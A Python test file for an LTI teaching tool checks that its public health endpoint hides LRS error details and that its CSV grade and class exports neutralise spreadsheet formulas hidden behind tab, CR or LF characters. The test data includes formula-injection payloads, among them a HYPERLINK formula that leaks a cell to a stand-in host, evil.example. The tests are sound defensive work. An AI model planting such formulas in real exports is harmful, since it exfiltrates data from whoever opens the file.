"""Issue 15, point 8: what the tool showed or handed out that it should not have.

- the public ``/health`` listed every LRS destination with its last error;
- the CSV exports' formula guard missed a cell that starts with a TAB or a CR (spreadsheets
  skip leading whitespace and then run ``=...`` as a formula).
"""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime

import requests
from test_attacks_common import TIMEOUT, actor, db_session, person_sub

from lti_tool.models import Outbox, OutboxKind, OutboxStatus

TOKEN = "metrics-token-for-the-exposure-tests"
LRS_ERROR = "HTTP 503 from https://lrs.secret-college.example/xapi/statements"


def _failing_lrs_row(server) -> None:
    now = datetime.now(UTC)
    with db_session(server) as db:
        db.add(Outbox(kind=OutboxKind.XAPI, dedupe_key="exposure-1", payload={},
                      status=OutboxStatus.PENDING, attempts=3, next_attempt_at=now,
                      last_error=LRS_ERROR, created_at=now, destination="lrs:7"))


def _with_token(server, monkeypatch) -> None:
    rt = server.app.extensions["cpt_lti"]
    monkeypatch.setattr(rt, "settings", dataclasses.replace(rt.settings,
                                                            metrics_token=TOKEN))


def test_public_health_says_up_or_down_and_nothing_else(live_server, monkeypatch):
    _with_token(live_server, monkeypatch)
    _failing_lrs_row(live_server)
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": TOKEN}):
        answer = requests.get(f"{live_server.url}/health", headers=headers, timeout=TIMEOUT)
        assert answer.status_code == 200
        assert answer.json() == {"status": "ok"}, answer.text
        assert "lrs" not in answer.text and "secret-college" not in answer.text
    detailed = requests.get(f"{live_server.url}/health", timeout=TIMEOUT,
                            headers={"Authorization": f"Bearer {TOKEN}"})
    assert detailed.status_code == 200
    body = detailed.json()
    assert body["status"] == "ok" and body["database"] == "ok"
    assert body["outbox"]["xapi:lrs:7"]["last_error"] == LRS_ERROR


def test_health_details_are_off_without_a_metrics_token(live_server):
    """No token configured: no bearer value (not even an empty one) opens the details."""
    _failing_lrs_row(live_server)
    for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer"}):
        answer = requests.get(f"{live_server.url}/health", headers=headers, timeout=TIMEOUT)
        assert answer.json() == {"status": "ok"}


def test_health_is_down_when_the_database_is():
    from support import make_settings

    from lti_tool import create_app
    from lti_tool.sandbox.ralph_lrs import free_port

    closed = free_port()  # nothing listens there: the database "is down"
    app = create_app(make_settings(f"postgresql+psycopg://postgres@127.0.0.1:{closed}/x"))
    try:
        answer = app.test_client().get("/health")
        assert answer.status_code == 503 and answer.get_json() == {"status": "down"}
    finally:
        app.extensions["cpt_lti"].engine.dispose()


FORMULAS = {
    "tab": "\t=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Click\")",
    "cr": "\r=1+2",
    "lf": "\n+SUM(1;2)",
    "space-tab": " \t-2+3",
    "at": "@cmd",
}


def _named(sub: str, name: str):
    def edit(claims):
        claims["sub"] = sub
        claims["name"] = name
        claims["given_name"], claims["family_name"] = name, ""
        claims["email"] = f"{sub}@example.test"

    return edit


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_exports_neutralise_formulas_behind_control_characters(live_server):
    for key, name in FORMULAS.items():
        actor(live_server, "canvas", edit=_named(f"formula-{key}", name))
    carla = actor(live_server, "canvas", person_sub("canvas", "instructor"))
    for path in ("/instructor/grades?format=csv", "/instructor/class?format=csv"):
        answer = carla.get(f"{live_server.url}{path}")
        assert answer.status_code == 200, (path, answer.text[:300])
        assert answer.headers["Content-Type"].startswith("text/csv")
        cells = _cells(answer.text)
        for name in FORMULAS.values():
            # The name is there, whole, and starts with a quote: text, never a formula.
            assert f"'{name}" in cells or f"'{name.strip()}" in cells, (path, name, cells)
        for cell in cells:
            assert not cell or not (cell.lstrip(" \t\r\n\x00")[:1] in ("=", "+", "@")
                                    or cell[0] in "\t\r\n\x00" or (
                                        cell.lstrip()[:1] == "-" and not _number(cell))), (
                path, repr(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
